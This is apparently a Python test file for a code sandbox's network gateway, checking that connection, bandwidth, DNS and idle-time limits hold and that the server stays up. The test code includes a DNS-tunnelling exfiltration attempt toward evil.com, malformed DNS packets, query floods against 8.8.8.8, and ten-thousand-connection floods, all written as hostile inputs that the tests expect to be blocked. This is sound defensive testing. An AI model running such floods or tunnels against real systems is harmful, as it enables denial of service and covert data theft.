"""Too much of everything: the bound that was met is named, and the server goes on (HOSTILE.md 29, 30)."""

from __future__ import annotations

import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from belljar_client import Limits, NetworkLimits, Result
from tests.conftest import Server, wait_until
from tests.hostile.network.inside import TRY

Hit = Callable[..., Result]


def reasons(result: Result) -> str:
    """All that was said about denials."""
    return "\n".join(each.reason for each in result.denied_connections)


def test_two_hundred_connections_are_held_at_once(hit: Hit) -> None:
    """Each still carries its own bytes while all are open."""
    code = (
        TRY
        + """
held = []
for number in range(200):
    connection = socket.create_connection(("api.example.com", 7), 10)
    connection.sendall(b"%d." % number)
    held.append(connection)
[connection.recv(100) == b"%d." % number for number, connection in enumerate(held)].count(True)
"""
    )
    limits = NetworkLimits(connections_per_second=1000)
    assert hit(code, allow=["api.example.com:7"], network_limits=limits).check().value == 200


def test_ten_thousand_connections_stop_at_the_limit(hit: Hit, server: Server) -> None:
    """At once, half open, and one after the other: refused ones cost nothing that lasts."""
    code = (
        TRY
        + """
held, refused = [], 0
for number in range(10000):
    connection = socket.socket()
    connection.setblocking(False)
    try:
        connection.connect(address)
    except BlockingIOError:
        pass
    except OSError:
        refused += 1
        connection.close()
        continue
    held.append(connection)
    if len(held) > 900:
        held.pop(0).close()
time.sleep(0.5)
len(held)
"""
    )
    code = code.replace("held, refused", "address = (socket.gethostbyname('api.example.com'), 9)\nheld, refused", 1)
    result = hit(code, allow=["api.example.com:9"], network_limits=NetworkLimits(connections=50))
    assert result.succeeded, result.error
    assert "network.limits.connections" in reasons(result)
    assert sum(each.count for each in result.denied_connections) > 100


def test_each_budget_cuts_and_says_so(hit: Hit) -> None:
    """Bytes down, bytes up, queries, connections a second, idle time."""
    down = TRY + "len(urllib.request.urlopen('http://api.example.com/download?mib=5', timeout=10).read())"
    result = hit(down, network="full", network_limits=NetworkLimits(bytes_in=1 << 20))
    assert not result.succeeded
    assert "network.limits.bytes_in" in reasons(result)
    assert 1 << 20 <= result.usage.network_bytes_in < 3 << 20

    up = TRY + "socket.create_connection(('api.example.com', 9), 10).sendall(bytes(50 << 20))"
    result = hit(up, network="full", network_limits=NetworkLimits(bytes_out=1 << 20))
    assert not result.succeeded
    assert "network.limits.bytes_out" in reasons(result)

    queries = (
        TRY
        + """
answers = []
for number in range(30):
    try:
        answers.append(socket.gethostbyname("api.example.com"))
    except OSError:
        answers.append("")
[answers[0] != "", answers[-1]]
"""
    )
    result = hit(queries, network="full", network_limits=NetworkLimits(dns_queries=20)).check()
    assert result.value == [True, ""]
    assert "network.limits.dns_queries" in reasons(result)

    many = TRY + "[say('11.22.33.44', 25) for _ in range(20)].count('ECONNRESET')"
    result = hit(many, network="full", network_limits=NetworkLimits(connections_per_second=2)).check()
    assert result.value >= 10
    assert "network.limits.connections_per_second" in reasons(result)

    idle = TRY + "timed(say, 'api.example.com', 9, b'x', 1, 20)"
    answer, seconds = hit(idle, network="full", network_limits=NetworkLimits(idle_timeout=1.0)).check().value
    assert answer == "ECONNRESET"
    assert 0.9 < seconds < 15


def test_dns_carries_nothing_out_and_floods_nobody(hit: Hit, asked: Path) -> None:
    """Names full of data are not passed on, nor other records; a thousand queries are answered or refused."""
    code = (
        TRY
        + """
import struct
def query(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", kind, 1)
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.settimeout(5)
resolver.connect(("8.8.8.8", 53))  # whoever is asked, the gateway answers
def ask(name, kind):
    resolver.send(query(name, kind))
    answer = resolver.recv(4096)
    return [answer[3] & 15, struct.unpack("!H", answer[6:8])[0]]
kinds = {kind: ask("api.example.com", number) for kind, number in
    {"A": 1, "AAAA": 28, "TXT": 16, "MX": 15, "HTTPS": 65, "NS": 2, "SRV": 33, "NULL": 10}.items()}
tunnel = [ask(f"{'x' * 60}.{number}.evil.com", 16)[0] for number in range(200)]
for junk in (b"", b"\\0" * 11, b"\\xff" * 600, query("api.example.com", 1)[:-3], b"\\0" * 12):
    resolver.send(junk or b"x")
flood = [ask("api.example.com", 1)[0] for _ in range(700)]
[kinds, sorted(set(tunnel)), sorted(set(flood))]
"""
    )
    before = len(asked.read_text().splitlines())
    kinds, tunnel, flood = hit(code, allow=["api.example.com"]).check().value
    assert kinds.pop("A") == [0, 1]
    assert set(map(tuple, kinds.values())) == {(0, 0)}
    assert tunnel == [3]
    assert flood == [0]
    assert set(asked.read_text().splitlines()[before:]) <= {"api.example.com"}


def test_queries_that_take_long_to_read_are_not_read(hit: Hit) -> None:
    """Hundreds of questions or records in each, and no budget left by them: others are answered meanwhile."""
    code = (
        TRY
        + """
import struct
name = b"".join(b"\\x01a" for _ in range(120)) + b"\\0"
many = struct.pack("!6H", 7, 0x100, 600, 0, 0, 0) + name + b"\\0\\x01\\0\\x01" + b"\\xc0\\x0c\\0\\x01\\0\\x01" * 599
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.connect(("8.8.8.8", 53))
until = time.monotonic() + 3
while time.monotonic() < until:
    try:
        resolver.send(many)
    except OSError:
        pass
"""
    )
    with ThreadPoolExecutor(1) as thread:
        flood = thread.submit(hit, code, allow=["api.example.com"], limits=Limits(timeout=20))
        time.sleep(1)
        began = time.monotonic()
        assert hit("1", limits=Limits(timeout=20)).check().value == 1
        assert time.monotonic() - began < 10
        result = flood.result().check()
    assert "network.limits.dns_queries" in reasons(result)


def test_a_name_server_that_is_silent_delays_nobody_else(hit: Hit) -> None:
    """The one who asks gets a failure; others are answered meanwhile."""
    code = (
        TRY
        + """
import threading
def silent():
    try:
        socket.gethostbyname("silent.example.org")
    except OSError:
        pass
for _ in range(5):
    threading.Thread(target=silent, daemon=True).start()
time.sleep(0.2)
answer, seconds = timed(get, "http://api.example.com/")
[answer["at"], seconds]
"""
    )
    at, seconds = hit(code, network="full", limits=Limits(timeout=20)).check().value
    assert at == "11.22.33.44"
    assert seconds < 3


def test_odd_servers_do_not_hang_or_break_anything(hit: Hit) -> None:
    """Nobody at home, reset in the middle, and one who says nothing for as long as the code likes to wait."""
    code = (
        TRY
        + """
[say("nobody.example.org", 80), say("api.example.com", 1025, b"x"), say("api.example.com", 9, b"x", 1, 1)]
"""
    )
    nobody, broken, silent = hit(code, network="full").check().value
    assert nobody == "ECONNRESET"
    assert broken in ("ECONNRESET", "half an ans")
    assert silent == "TimeoutError"


def test_a_slow_reader_holds_bounded_memory(hit: Hit, server: Server) -> None:
    """A gigabyte is on offer, the code reads nothing: the server stops taking it."""
    code = (
        TRY
        + """
held = []
for _ in range(4):
    connection = socket.create_connection(("api.example.com", 80), 10)
    connection.sendall(b"GET /download?mib=1024 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n")
    held.append(connection)
time.sleep(2)
"""
    )
    before = resident(server)
    result = hit(code, allow=["api.example.com"]).check()
    assert result.usage.network_bytes_in < 256 << 20
    assert resident(server) - before < 128 << 20


def resident(server: Server) -> int:
    """Memory of the server itself."""
    return int(Path(f"/proc/{server.process.pid}/statm").read_text().split()[1]) * 4096


def test_twenty_sandboxes_with_network_run_at_once(hit: Hit) -> None:
    """Each reaches its own host and no other's."""
    code = (
        TRY
        + "[get('http://api.example.com/')['at'] if even else get('http://api.example.com/'), get('http://a.example.org/')]"
    )

    def one(number: int) -> bool:
        even = number % 2 == 0
        allow = ["api.example.com"] if even else ["*.example.org"]
        value = hit(code, inputs={"even": even}, allow=allow, limits=Limits(timeout=60)).check().value
        return bool(value == ["11.22.33.44", "no such name"] if even else value[1]["at"] == "11.22.33.45")

    with ThreadPoolExecutor(20) as all_at_once:
        assert all(all_at_once.map(one, range(20)))


def test_a_killed_execution_leaves_no_connection(hit: Hit, server: Server) -> None:
    """The time limit ends everything that was open."""
    code = (
        TRY
        + """
held = [socket.create_connection(("api.example.com", 7), 10) for _ in range(20)]
while True:
    for connection in held:
        connection.sendall(b"x" * 1000)
        connection.recv(1000)
"""
    )
    result = hit(code, allow=["api.example.com:7"], limits=Limits(timeout=2))
    assert result.error is not None
    assert result.error.kind == "TIMEOUT"
    assert result.usage.network_connections == 20

    def sockets() -> int:
        table = Path(f"/proc/{server.process.pid}/net/tcp").read_text().splitlines()
        return sum(line.split()[2].endswith(":0007") and line.split()[3] == "01" for line in table[1:])

    wait_until(lambda: sockets() == 0, "no connection to the outside is left")
